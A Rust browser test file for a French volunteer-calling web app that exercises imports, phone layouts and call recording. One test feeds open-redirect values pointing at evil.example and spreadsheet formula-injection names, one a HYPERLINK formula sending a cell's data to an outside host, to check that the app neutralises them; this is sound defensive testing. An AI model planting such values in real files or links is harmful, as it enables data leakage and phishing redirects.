//! The pages that matter, in a real browser: headless Chromium driven through
//! ChromeDriver (Debian's `chromium` and `chromium-driver`). Set LIEN_TEST_WEBDRIVER to
//! the driver's address (`chromedriver --port=9515` → http://127.0.0.1:9515); `.ci/run`
//! does. Screenshots land in target/browser/ for a human look.

use std::path::{Path, PathBuf};
use std::time::Duration;

use fantoccini::{Client, ClientBuilder, Locator};
use lien::domain::Role;

use crate::helpers::{spawn_app, Backend, TestApp, TEST_PASSWORD};

/// A browser session; with `phone`, Chromium emulates a 390 × 844 phone screen (a
/// headless window cannot be narrower than 500 px).
pub(crate) async fn browser(width: u32, height: u32, phone: bool) -> Client {
    let webdriver = std::env::var("LIEN_TEST_WEBDRIVER").expect("LIEN_TEST_WEBDRIVER");
    let mut caps = serde_json::Map::new();
    caps.insert(
        "goog:chromeOptions".into(),
        serde_json::json!({
            "binary": std::env::var("LIEN_TEST_CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".into()),
            "args": [
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-dev-shm-usage", "--lang=fr-FR", format!("--window-size={width},{height}"),
            ],
            "prefs": { "intl.accept_languages": "fr-FR,fr" },
        }),
    );
    if phone {
        caps["goog:chromeOptions"]["mobileEmulation"] = serde_json::json!({
            "deviceMetrics": { "width": width, "height": height, "pixelRatio": 2.0, "touch": true },
        });
    }
    ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
        .capabilities(caps)
        .connect(&webdriver)
        .await
        .expect("a WebDriver session (is chromedriver running at LIEN_TEST_WEBDRIVER?)")
}

/// Saves a screenshot in target/browser/, and in LIEN_SCREENSHOTS_DIR too when it is set
/// (`docs/screenshots/regenerate.sh` sets it to refresh the pictures of the docs).
pub(crate) async fn screenshot(client: &Client, name: &str) {
    let png = client.screenshot().await.unwrap();
    let mut dirs = vec![Path::new(env!("CARGO_MANIFEST_DIR")).join("target/browser")];
    if let Some(extra) = std::env::var_os("LIEN_SCREENSHOTS_DIR") {
        dirs.push(PathBuf::from(extra));
    }
    for dir in dirs {
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(format!("{name}.png")), &png).unwrap();
    }
}

/// The page's width in CSS pixels (wider than the screen means sideways scrolling).
pub(crate) async fn page_width(client: &Client) -> u64 {
    client
        .execute("return document.documentElement.scrollWidth;", vec![])
        .await
        .unwrap()
        .as_u64()
        .unwrap()
}

/// Waits until the element `css` shows `text` (pages load and replace each other).
pub(crate) async fn wait_for_text(client: &Client, css: &str, text: &str) {
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    let mut last = String::new();
    while std::time::Instant::now() < deadline {
        if let Ok(element) = client.find(Locator::Css(css)).await {
            if let Ok(found) = element.text().await {
                if found.contains(text) {
                    return;
                }
                last = found;
            }
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("{css} says {last:?}, expected {text:?}");
}

pub(crate) async fn log_in(client: &Client, app: &TestApp, email: &str) {
    log_in_at(client, &format!("{}/login", app.address), email).await;
}

/// Logs in from the login page at `url` (which may carry a `next`).
async fn log_in_at(client: &Client, url: &str, email: &str) {
    client.goto(url).await.unwrap();
    wait_for_text(client, "h1", "Connexion").await;
    client
        .find(Locator::Css("#email"))
        .await
        .unwrap()
        .send_keys(email)
        .await
        .unwrap();
    client
        .find(Locator::Css("#password"))
        .await
        .unwrap()
        .send_keys(TEST_PASSWORD)
        .await
        .unwrap();
    client
        .find(Locator::Css("form button[type=submit]"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
}

fn sample(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/samples")
        .join(name)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(lien_browser_tests),
    ignore = "browser suite skipped: run chromedriver and set LIEN_TEST_WEBDRIVER to run it"
)]
async fn a_coordinator_imports_a_list_in_a_real_browser() {
    let app = spawn_app(Backend::Sqlite).await;
    app.create_user(Role::Coordinator, "coordination@cd80.example.org")
        .await;
    let client = browser(1280, 1000, false).await;
    log_in(&client, &app, "coordination@cd80.example.org").await;
    wait_for_text(&client, "h1", "Importer des listes").await;

    // Territories first, then the messy Excel list of beneficiaries.
    for (kind, file) in [
        ("territories", "territoires.csv"),
        ("beneficiaries", "beneficiaires-excel.csv"),
    ] {
        client
            .goto(&format!("{}/coordination/imports", app.address))
            .await
            .unwrap();
        client
            .find(Locator::Css(&format!("#kind option[value={kind}]")))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        client
            .find(Locator::Css("#file"))
            .await
            .unwrap()
            .send_keys(sample(file).to_str().unwrap())
            .await
            .unwrap();
        client
            .find(Locator::Css("form[enctype] button"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        wait_for_text(&client, "h1", "Vérification avant import").await;
        if kind == "beneficiaries" {
            let rejected = client
                .find_all(Locator::Css("table tbody tr"))
                .await
                .unwrap();
            assert!(!rejected.is_empty(), "the rejected rows are listed");
            screenshot(&client, "import-preview").await;
        }
        client
            .find(Locator::Css(
                "form[action='/coordination/imports/confirm'] button",
            ))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        wait_for_text(&client, "h1", "Import n°").await;
    }
    wait_for_text(&client, "a.button", "Télécharger les lignes refusées").await;
    screenshot(&client, "import-batch").await;
    let stored = crate::helpers::scalar(&app.store, "SELECT COUNT(*) FROM beneficiaries").await;
    assert!(stored > 20, "{stored}");
    client.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(lien_browser_tests),
    ignore = "browser suite skipped: run chromedriver and set LIEN_TEST_WEBDRIVER to run it"
)]
async fn the_home_and_login_pages_fit_a_phone() {
    let app = spawn_app(Backend::Sqlite).await;
    let client = browser(390, 844, true).await;
    client.goto(&format!("{}/", app.address)).await.unwrap();
    wait_for_text(&client, "h1", "Appels de solidarité").await;
    // Nothing wider than the screen: no sideways scrolling on a phone.
    let width = client
        .execute("return document.documentElement.scrollWidth;", vec![])
        .await
        .unwrap();
    let wide = client
        .execute(
            "return [...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right > window.innerWidth + 1).map(e => e.tagName + '.' + e.className + ' ' + Math.round(e.getBoundingClientRect().right)).slice(0, 5).join(', ');",
            vec![],
        )
        .await
        .unwrap();
    let viewport = client
        .execute("return window.innerWidth;", vec![])
        .await
        .unwrap();
    assert_eq!(viewport.as_u64(), Some(390), "the phone screen is emulated");
    assert!(
        width.as_u64().unwrap() <= 390,
        "page is {width} px wide on a {viewport} px screen: {wide}"
    );
    screenshot(&client, "home-phone").await;
    client
        .goto(&format!("{}/login", app.address))
        .await
        .unwrap();
    wait_for_text(&client, "h1", "Connexion").await;
    screenshot(&client, "login-phone").await;
    client.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(lien_browser_tests),
    ignore = "browser suite skipped: run chromedriver and set LIEN_TEST_WEBDRIVER to run it"
)]
async fn a_caller_works_through_their_queue_on_a_phone() {
    use lien::domain::{CampaignName, EmailAddress, IsoWeek};
    use lien::store::{NewUser, PlanMode};

    let app = spawn_app(Backend::Sqlite).await;
    let campaign = app
        .store
        .campaign_by_name(&CampaignName::default_campaign())
        .await
        .unwrap();
    let data = lien::fixtures::demo_dataset().unwrap();
    app.store
        .load_dataset(&campaign, "fixtures/demo", &data)
        .await
        .unwrap();
    app.store
        .plan_week(&campaign, IsoWeek::current(), PlanMode::Plan, false)
        .await
        .unwrap();
    let email = data.callers[0].email.as_str().to_string();
    app.store
        .create_user(&NewUser {
            email: EmailAddress::parse(&email).unwrap(),
            display_name: "Élodie".into(),
            role: Role::Caller,
            password_hash: Some(lien::auth::Password::parse(TEST_PASSWORD).unwrap().hash()),
            caller_id: app.store.caller_id_by_email(&email).await.unwrap(),
            territory_id: None,
            organisation_id: None,
            volunteer_id: None,
        })
        .await
        .unwrap();
    let client = browser(390, 844, true).await;
    log_in(&client, &app, &email).await;
    wait_for_text(&client, "h1", "Mes appels du jour").await;
    let first_phone = client.find(Locator::Css("a.tel")).await.unwrap();
    let href = first_phone.attr("href").await.unwrap().unwrap();
    assert!(href.starts_with("tel:+"), "{href}");
    let width = page_width(&client).await;
    assert!(
        width <= 390,
        "the queue is {width} px wide on a 390 px phone"
    );
    screenshot(&client, "queue-phone").await;
    let cards_before = client
        .find_all(Locator::Css("li.card"))
        .await
        .unwrap()
        .len();
    assert!(cards_before > 0);

    // Open the first person, record "reached – need expressed" with a need.
    let first = client.find(Locator::Css("li.card h2 a")).await.unwrap();
    let name = first.text().await.unwrap();
    first.click().await.unwrap();
    wait_for_text(&client, "h1", &name).await;
    wait_for_text(&client, ".script", "3919").await;
    let width = page_width(&client).await;
    assert!(
        width <= 390,
        "the call page is {width} px wide on a 390 px phone"
    );
    screenshot(&client, "call-phone").await;
    client
        .find(Locator::Css("input[name=outcome][value=reached_need]"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    client
        .find(Locator::Css("input[name=need_food]"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    client
        .find(Locator::Css("input[name=need_food_description]"))
        .await
        .unwrap()
        .send_keys("Plus de courses depuis que sa voisine est partie")
        .await
        .unwrap();
    client
        .find(Locator::Css("form.outcome button[type=submit]"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();

    // Back on the queue: one call done, that person gone from it, and one escalation.
    wait_for_text(&client, "h1", "Mes appels du jour").await;
    wait_for_text(&client, ".progress", "1 appels terminés").await;
    let cards_after = client
        .find_all(Locator::Css("li.card"))
        .await
        .unwrap()
        .len();
    assert_eq!(cards_after, cards_before - 1, "the queue moved on");
    let page = client.source().await.unwrap();
    assert!(!page.contains(&format!(">{name}</a>")), "{name} was called");
    assert_eq!(
        crate::helpers::scalar(
            &app.store,
            "SELECT COUNT(*) FROM escalations WHERE category = 'food'"
        )
        .await,
        1
    );
    screenshot(&client, "queue-after-call-phone").await;
    client.close().await.unwrap();
}

/// The top of the element `css` in the page (CSS pixels from the top of the document).
async fn top_of(client: &Client, css: &str) -> f64 {
    let script = "const e = document.querySelector(arguments[0]); \
                  return e.getBoundingClientRect().top + window.scrollY;";
    client
        .execute(script, vec![serde_json::json!(css)])
        .await
        .unwrap()
        .as_f64()
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(lien_browser_tests),
    ignore = "browser suite skipped: run chromedriver and set LIEN_TEST_WEBDRIVER to run it"
)]
async fn the_call_page_reads_first_and_records_in_one_tap_on_a_phone() {
    let (app, email) = crate::helpers::planned_demo_app(Backend::Sqlite).await;
    let client = browser(390, 844, true).await;
    log_in(&client, &app, &email).await;
    wait_for_text(&client, "h1", "Mes appels du jour").await;
    let first = client.find(Locator::Css("li.card h2 a")).await.unwrap();
    let name = first.text().await.unwrap();
    first.click().await.unwrap();
    wait_for_text(&client, "h1", &name).await;
    let width = page_width(&client).await;
    assert!(width <= 390, "the call page is {width} px wide");

    // The phone numbers, then the script, then the form.
    let phones = top_of(&client, ".phones").await;
    let script = top_of(&client, ".script").await;
    let form = top_of(&client, "form.outcome").await;
    assert!(phones < script && script < form, "{phones} {script} {form}");
    // The details of rarer outcomes wait until their outcome is chosen.
    let callback = client.find(Locator::Css("#callback_at")).await.unwrap();
    assert!(!callback.is_displayed().await.unwrap());
    let need = client
        .find(Locator::Css("input[name=need_food]"))
        .await
        .unwrap();
    assert!(!need.is_displayed().await.unwrap());
    client
        .find(Locator::Css("input[name=outcome][value=callback]"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    assert!(
        callback.is_displayed().await.unwrap(),
        "a callback asks when"
    );
    screenshot(&client, "call-phone-callback").await;

    // One tap on "reached – all is well" (its card), then save.
    let card = client
        .find(Locator::XPath(
            "//label[contains(@class, 'outcome-choice')][input[@value='reached_ok']]",
        ))
        .await
        .unwrap();
    card.click().await.unwrap();
    assert!(!callback.is_displayed().await.unwrap());
    let save = client
        .find(Locator::Css("form.outcome .save button[type=submit]"))
        .await
        .unwrap();
    assert!(save.is_displayed().await.unwrap());
    screenshot(&client, "call-phone-chosen").await;
    save.click().await.unwrap();
    wait_for_text(&client, "h1", "Mes appels du jour").await;
    wait_for_text(&client, ".progress", "1 appels terminés").await;
    assert_eq!(
        crate::helpers::scalar(
            &app.store,
            "SELECT COUNT(*) FROM calls WHERE outcome = 'reached_ok' AND caller_id = 1"
        )
        .await,
        1
    );
    client.close().await.unwrap();
}

/// Waits until the browser has left the login page; gives where it landed.
async fn landed(client: &Client) -> url::Url {
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    loop {
        let url = client.current_url().await.unwrap();
        if !url.path().starts_with("/login") || std::time::Instant::now() > deadline {
            return url;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Last names an attacker would slip into a list: each becomes a live formula if a
/// spreadsheet reads it as such.
const HOSTILE_NAMES: [&str; 4] = [
    "=HYPERLINK(\"http://x/?\"&D2,\"Dupont\")",
    "+cmd",
    "@SUM(1)",
    "-2+3",
];

/// A beneficiary list whose rows have a hostile last name and no phone (so they are
/// refused and kept, cells as the file had them, for the rejected-rows CSV).
fn hostile_list() -> PathBuf {
    let mut text = String::from(
        "N° dossier;Nom;Prénom;Téléphone fixe;Téléphone portable;Adresse;Code postal;\
         Commune;Date de naissance;Prestation;Langue;Territoire;Contact proche;Téléphone contact\n",
    );
    for (i, name) in HOSTILE_NAMES.iter().enumerate() {
        let quoted = name.replace('"', "\"\"");
        text.push_str(&format!(
            "80-000990{i};\"{quoted}\";Jean;;;1 rue X;80000;Amiens;01/01/1940;APA;fr;;;\n"
        ));
    }
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/browser");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("liste-hostile.csv");
    std::fs::write(&path, text).unwrap();
    path
}

/// Uploads `file` as a beneficiary list on the import page and confirms it; the browser
/// ends on the import's page.
async fn import_in_browser(client: &Client, app: &TestApp, file: &Path) {
    client
        .goto(&format!("{}/coordination/imports", app.address))
        .await
        .unwrap();
    let input = client.find(Locator::Css("#file")).await.unwrap();
    input.send_keys(file.to_str().unwrap()).await.unwrap();
    let upload = client.find(Locator::Css("form[enctype] button")).await;
    upload.unwrap().click().await.unwrap();
    wait_for_text(client, "h1", "Vérification avant import").await;
    let confirm = "form[action='/coordination/imports/confirm'] button";
    let button = client.find(Locator::Css(confirm)).await.unwrap();
    button.click().await.unwrap();
    wait_for_text(client, "h1", "Import n°").await;
}

/// The body of `href`, fetched by the page itself (with the browser's cookies).
async fn fetch_in_page(client: &Client, href: &str) -> String {
    let script = "const done = arguments[arguments.length - 1]; \
                  fetch(arguments[0], { credentials: 'same-origin' }) \
                  .then(r => r.text()).then(done, e => done('failed: ' + e));";
    let body = client
        .execute_async(script, vec![serde_json::json!(href)])
        .await
        .unwrap();
    body.as_str().unwrap().to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(lien_browser_tests),
    ignore = "browser suite skipped: run chromedriver and set LIEN_TEST_WEBDRIVER to run it"
)]
async fn an_attackers_walk_goes_nowhere() {
    let app = spawn_app(Backend::Sqlite).await;
    let client = browser(1280, 1000, false).await;
    let home = url::Url::parse(&app.address).unwrap();

    // A login link with a hostile `next`: after the login, the browser is at home.
    for (i, next) in [
        "/%09/evil.example",
        "//evil.example",
        "/\\evil.example",
        "https://evil.example",
        "/%5Cevil.example",
    ]
    .iter()
    .enumerate()
    {
        // One account each: the login limit (5 a minute per account) is not the point.
        let email = format!("coord{i}@cd80.example.org");
        app.create_user(Role::Coordinator, &email).await;
        client.delete_all_cookies().await.unwrap();
        log_in_at(
            &client,
            &format!("{}/login?next={next}", app.address),
            &email,
        )
        .await;
        let url = landed(&client).await;
        assert_eq!(
            (url.host_str(), url.port(), url.path()),
            (home.host_str(), home.port(), "/coordination/imports"),
            "next={next}"
        );
    }

    // A list whose names are formulas: refused rows, shown and downloaded as text.
    import_in_browser(&client, &app, &hostile_list()).await;
    let cells = client
        .find_all(Locator::Css("table tbody td"))
        .await
        .unwrap();
    let mut shown = Vec::new();
    for cell in &cells {
        shown.push(cell.text().await.unwrap());
    }
    // The name refused for itself (no letter) is shown in its cell, as typed.
    assert!(shown.iter().any(|c| c == "-2+3"), "{shown:?}");
    let links = client
        .find_all(Locator::Css("table a, a[href*='x/?']"))
        .await;
    assert!(links.unwrap().is_empty(), "no link made from a cell");
    let download = client
        .find(Locator::Css("a[href$='/rejected.csv']"))
        .await
        .unwrap();
    let href = download.attr("href").await.unwrap().unwrap();
    let body = fetch_in_page(&client, &href).await;
    // Read as a spreadsheet would: `;`-separated, after the byte-order mark.
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .flexible(true)
        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let read: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    for name in HOSTILE_NAMES {
        assert!(
            read.iter().any(|cell| *cell == format!("'{name}")),
            "{name} as text in {read:?}"
        );
        assert!(!read.iter().any(|cell| cell == name), "{name} bare");
    }
    client.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(lien_browser_tests),
    ignore = "browser suite skipped: run chromedriver and set LIEN_TEST_WEBDRIVER to run it"
)]
async fn an_organisation_updates_a_need_from_its_link_on_a_phone() {
    use crate::organisation_links::{need, organisation};
    let app = spawn_app(Backend::Sqlite).await;
    let org = organisation(
        &app.store,
        "Foyer Les Tilleuls",
        Some("contact@tilleuls.example.org"),
    )
    .await;
    let id = need(&app.store, org, "ASE-1", true).await;
    need(&app.store, org, "ASE-2", true).await;
    let links =
        lien::messages::MailLinks::new(format!("{}/", app.address).parse().unwrap(), vec![7; 32]);
    app.store
        .queue_needs_reminders(&links, chrono::Utc::now(), false)
        .await
        .unwrap();
    let token = crate::helpers::text(&app.store, "SELECT secret_token FROM outbox").await;
    let client = browser(390, 844, true).await;
    client
        .goto(&format!("{}/structures/lien/{token}", app.address))
        .await
        .unwrap();
    wait_for_text(&client, "h1", "Vos besoins en volontaires").await;
    assert!(
        page_width(&client).await <= 390,
        "no sideways scrolling on a phone"
    );
    screenshot(&client, "organisation-link-phone").await;
    let volunteers = client
        .find(Locator::Css(&format!("#volunteers-{id}")))
        .await
        .unwrap();
    volunteers.clear().await.unwrap();
    volunteers.send_keys("3").await.unwrap();
    let slots = client
        .find(Locator::Css(&format!("#slots-{id}")))
        .await
        .unwrap();
    slots.clear().await.unwrap();
    slots
        .send_keys("lundi 9h-12h, jeudi 14h30-18h")
        .await
        .unwrap();
    client
        .find(Locator::Css(&format!("#besoin-{id} button[type=submit]")))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    wait_for_text(&client, ".ok", "Besoin enregistré").await;
    assert!(page_width(&client).await <= 390);
    screenshot(&client, "organisation-link-saved-phone").await;
    let (version, wanted, slots): (i32, i32, String) = crate::helpers::query_all(
        &app.store,
        &format!("SELECT version, volunteers_wanted, slots FROM mission_needs WHERE id = {id}"),
    )
    .await
    .remove(0);
    assert_eq!((version, wanted), (2, 3));
    assert!(slots.contains("jeu 14:30-18:00"), "{slots}");
    client.close().await.unwrap();
}
